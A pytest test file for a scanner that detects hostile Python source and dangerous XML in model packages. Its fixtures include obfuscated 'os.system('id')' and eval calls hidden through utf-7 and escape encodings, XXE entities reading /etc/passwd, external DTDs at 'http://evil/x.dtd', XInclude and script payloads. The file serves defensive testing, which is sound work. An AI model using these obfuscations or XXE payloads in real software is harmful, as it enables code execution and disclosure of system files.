"""Python source and XML: Python itself, with recorded builtins, and expat, without files, show what would happen."""

from __future__ import annotations

import io
import zipfile
from contextlib import suppress
from unittest.mock import MagicMock
from xml.parsers import expat

import pytest

from buildkit.scan import BytesSource, Verdict, scan
from tests.scan.formatmaker import rules, scan_bytes

_RECORDED = (
    "__import__",
    "eval",
    "exec",
    "compile",
    "open",
    "getattr",
    "vars",
    "globals",
    "locals",
    "breakpoint",
    "input",
)


def acts(content: bytes) -> bool:
    """Run a source in which everything that reaches out of it is replaced by a recorder."""
    recorder = MagicMock()
    builtins = {name: getattr(recorder, name.strip("_") + "_") for name in _RECORDED}
    space = {"__builtins__": builtins | {"print": print, "map": map, "list": list, "__build_class__": recorder.made}}
    with suppress(NameError, TypeError, AttributeError, KeyError):
        exec(compile(content, "model.py", "exec"), space)
    return bool(recorder.mock_calls)


SOURCES = {
    "fence in its docstring": b'"""A model.\n\n```python\nx = 1\n```\n"""\nimport os\nos.system("id")\n',
    "fence in a text": b"x = '''\n~~~\n'''\nimport os\n",
    "utf-7": b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\n",
    "utf-7 in the second line": b"#\n# vim: set fileencoding=utf-7 :\n+AGUAdgBhAGw(1)\n",
    "hidden in a comment": b"# coding: utf-7\n# harmless +AAo-import os\n",
    "escapes": b"# coding: unicode_escape\n# \\nimport os\n",
    "raw escapes": b"# coding: raw_unicode_escape\n# \\u000aimport os\n",
    "latin": "# coding: latin-1\nx = 'Müller'\nimport os\n".encode("latin-1"),
    "vars": b'vars(__builtins__)["ev" + "al"]("1")\n',
    "subscript": b'__builtins__["ev" + "al"]("1")\n',
    "getattr": b'x = 1\ngetattr(x, "real")\n',
    "another name": b"f = eval\nf('1')\n",
    "list": b"[e] = [eval]\nlist(map(e, ['1']))\n",
    "decorator": b"@exec\n@input\nclass X:\n    pass\n",
    "metaclass": b"class os(metaclass=eval): pass\n",
    "wide letters": "ｅｖａｌ('1')\n".encode(),
    "import function": b"__import__('o' + 's').system('id')\n",
    "relative": b"from .x import y\nfrom importlib import import_module\n",
    "globals": b'globals()["__buil" + "tins__"]\n',
    "one line": b"x = 1; import os; os.system('id')\n",
    "continued": b"import \\\n    os\n",
    "mark": b"\xef\xbb\xbfimport os\n",
    "f-string": b"x = f\"{__import__('os')}\"\n",
    "default": b"def f(x=open('y')):\n    pass\n",
}


@pytest.mark.parametrize("name", SOURCES)
def test_source_that_acts_is_found_whatever_its_form(name: str) -> None:
    content = SOURCES[name]
    assert acts(content), "the source has to do what it is here for"
    assert "python-source" in rules(content)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("modeling_x.py", content)
    assert "python-source" in rules(file.getvalue())


@pytest.mark.parametrize(
    "source",
    [
        b"().__class__.__base__.__subclasses__()[1]('id')\n",
        b"def f():\n    yield\nf().gi_frame.f_builtins['ev' + 'al']('1')\n",
        b"os.system('id')\n",
        b"sys.modules['os'].system('id')\n",
        b"codecs.decode('riny', 'rot13')\nsubprocess.run('id')\n",
        b"def f():\n    import os\n",
        b"class A:\n    import os\n",
    ],
)
def test_source_with_hidden_ways_is_found(source: bytes) -> None:
    assert "python-source" in rules(source)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("modeling_x.py", b"x = open\nprint 'x'\n"),
        ("modeling_x.py", b"# coding: utf-7\n+AGkAbQBwAG8AcgB0 +-+-+ os(\n"),
        ("x", b"# coding: no-such-encoding\nimport os\n"),
        ("x", b"# coding: utf-16\nimport os\n"),
        ("handler.py", b"def f(:\n" + b"x" * 10 + b" open()\n"),
        ("x.py", b"x = 1\n" * 200_000),
    ],
)
def test_source_that_cannot_be_parsed_is_not_clean(name: str, content: bytes) -> None:
    found = scan(name, BytesSource(content))
    assert found.verdict in (Verdict.PARTIAL, Verdict.FINDINGS)


def test_source_of_newer_python_is_found_by_its_lines() -> None:
    fenced = b'"""\n```\n"""\nimport os\nx = 1\ntype X = ???\nos.system("id")\n' + b"y = 2\n" * 20
    assert "python-source" in rules(fenced)


@pytest.mark.parametrize(
    "text",
    [
        "open\neval\ncompile\ninput\n",
        "input: open\nmode: eval\n",
        "mode = open\nkind = 'import'\n",
        "[1, 2, 3]\n",
        "words\nexport\n__init__\n",
        "class Net(Module):\n  __buffers__ = []\n  def forward(self: __torch__.Net, x: Tensor):\n    return x.abs()\n",
        "# A model\n\n```python\nimport os\n```\n",
        "Encoding the input means: open it.\n",
    ],
    ids=lambda text: text[:16].strip(),
)
def test_words_that_happen_to_be_python_are_clean(text: str) -> None:
    assert scan_bytes(text.encode()).verdict is Verdict.CLEAN


PLIST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>'
)


def declares(content: bytes) -> bool:
    """Parse with expat: is an entity declared, or another file asked for? None is opened."""
    found: list[object] = []
    parser = expat.ParserCreate()
    parser.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_ALWAYS)
    parser.EntityDeclHandler = lambda *entity: found.append(entity)
    parser.ExternalEntityRefHandler = lambda *place: found.append(place) or 1
    with suppress(expat.ExpatError):
        parser.Parse(content, True)
    return bool(found)


DECLARATIONS = [
    '<!-- c --><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<?xml version="1.0"?>\n<!-- a --><!-- b -->\n<?pi x?>\n<!DOCTYPE x [<!ENTITY e "y">]><x/>',
    '<!DOCTYPE x [<!-- > --><!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><x/>',
    '<!DOCTYPE\nx\nSYSTEM\n"http://evil/x.dtd"><x/>',
    '<!DOCTYPE x PUBLIC "-//X" "http://evil/x.dtd"><x/>',
    '<!DOCTYPE html SYSTEM "file:///etc/passwd"><html/>',
    '<!DOCTYPE x [<!ATTLIST x y CDATA "z"><!ELEMENT x ANY><!ENTITY e "&#38;e;">]><x/>',
    '<!DOCTYPE x [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "<!DOCTYPE x [" + "<!-- " + "x" * 5000 + " -->" + '<!ENTITY e "y">]><x/>',
    '<!DOCTYPE x [<!ENTITY e "a>b" >]><x/>',
    "<!DOCTYPE x [<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM 'u' NDATA n>]><x/>",
    '<!DOCTYPE x\t[\n<!ENTITY\ne\n"y">\n]\n><x/>',
]  # fmt: skip


@pytest.mark.parametrize("text", DECLARATIONS, ids=lambda text: text[:40])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
def test_declaration_that_expat_sees_is_found(text: str, encoding: str) -> None:
    if encoding == "latin-1":
        text = '<?xml version="1.0" encoding="latin-1"?>' + text.partition("?>\n")[2] if "?xml" in text else text
    content = text.encode(encoding)
    assert declares(content), "the text has to declare something"
    assert "xml-entity" in rules(content)


@pytest.mark.parametrize(
    "content",
    [
        b'\n  <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]><x>&e;</x>',
        b'<?xml version="1.0" encoding="utf-7"?>\n+ADwAIQ-DOCTYPE x [+ADwAIQ-ENTITY e SYSTEM "u">]><x>&e;</x>',
        b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
        b'<?xml-stylesheet href="http://evil/x.xsl"?><x/>',
    ],
)
def test_declaration_for_tolerant_readers_is_found(content: bytes) -> None:
    assert "xml-entity" in rules(content)


def test_long_or_unknown_prolog_is_not_clean() -> None:
    late = b"<!-- " + b"x" * 2**21 + b' --><!DOCTYPE x [<!ENTITY e "y">]><x/>'
    assert scan_bytes(late).verdict is not Verdict.CLEAN
    assert scan_bytes(b'<?xml version="1.0" encoding="no-such"?><x/>').verdict is Verdict.PARTIAL


@pytest.mark.parametrize(
    "text",
    [
        "<!-- c --><html><script>alert(1)</script></html>",
        "<?xml version='1.0'?><!-- c -->\n<svg onload='alert(1)'/>",
        "<!DOCTYPE html>\n<!-- c --><body><iframe src='x'></iframe></body>",
    ],
)
def test_page_with_script_is_found_after_comments(text: str) -> None:
    assert "active-markup" in rules(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "<!-- a comment -->\n# Model\n",
        "<x><![CDATA[<!ENTITY e 'y'>]]></x>",
        "<x><!-- <!DOCTYPE y SYSTEM 'z'> --></x>",
        PLIST,
        "<s>\n</s>\n<unk>\n<pad>\n",
    ],
    ids=lambda text: text[:24],
)
def test_harmless_markup_is_clean(text: str) -> None:
    assert scan_bytes(text.encode()).verdict is Verdict.CLEAN
